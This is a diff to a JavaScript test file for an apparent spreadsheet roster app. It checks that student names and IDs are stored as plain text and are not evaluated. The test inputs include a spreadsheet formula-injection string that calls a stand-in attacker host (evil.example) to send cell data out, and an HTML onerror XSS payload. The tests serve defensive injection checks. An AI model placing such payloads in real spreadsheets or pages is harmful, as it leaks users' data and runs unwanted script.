@@ -55,21 +55,25 @@ describe.each(ZONES)('in %s', (zone) => {
   });
 });
 
-test.each([
-  '=IMPORTXML("http://evil.example/"&A1,"//a")',
-  '+1',
-  '0012',
-  'TRUE',
-  '3/4',
-  '<img src=x onerror=alert(1)>',
-])('a new student named %s, with that ID, is that text everywhere', (name) => {
-  const host = setUp(install(smallRoster()));
-  expect(enroll(host, name, name)).toMatchObject({ saved: true });
-  expect(shown(host, 'Roster').pop()?.slice(0, 2)).toEqual([name, name]);
-  expect(shown(host, 'Case assignments').filter((row) => row[1] === name && row[2] === name)).toHaveLength(2);
-  expect(everything(host).flatMap(({ formulas }) => formulas)).toEqual([]);
-  expect(ask(host, 'open', {})).toMatchObject({ stop: '', notices: [], problems: [] });
-});
+const WORDS = ['=IMPORTXML("http://evil.example/"&A1,"//a")', '<img src=x onerror=alert(1)>'];
+
+test.each([...WORDS, '+1', '0012', 'TRUE', '3/4'])(
+  'a new student named %s, with that ID, is that text everywhere',
+  (name) => {
+    const host = setUp(install(smallRoster()));
+    expect(enroll(host, name, name)).toMatchObject({ saved: true });
+    expect(shown(host, 'Roster').pop()?.slice(0, 2)).toEqual([name, name]);
+    expect(shown(host, 'Case assignments').filter((row) => row[1] === name && row[2] === name)).toHaveLength(
+      2,
+    );
+    expect(everything(host).flatMap(({ formulas }) => formulas)).toEqual([]);
+    // Words for an ID, where others have numbers, count and are told.
+    const problems = WORDS.includes(name)
+      ? [{ code: 'odd-student-id', items: [{ place: 'A8', text: name }] }]
+      : [];
+    expect(ask(host, 'open', {})).toMatchObject({ stop: '', notices: [], problems });
+  },
+);
 
 test('the link to the roster goes to the student’s row', () => {
   const host = setUp(install(smallRoster()));
